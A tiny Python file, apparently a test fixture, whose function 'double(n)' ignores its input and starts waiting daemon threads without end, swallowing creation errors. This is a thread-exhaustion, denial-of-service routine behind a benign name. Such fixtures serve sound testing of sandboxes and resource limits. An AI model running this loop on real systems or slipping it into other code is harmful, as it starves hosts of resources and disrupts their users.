"""Starts threads without end."""

import threading


def double(n):
    while True:
        try:
            threading.Thread(target=threading.Event().wait, daemon=True).start()
        except RuntimeError:
            pass
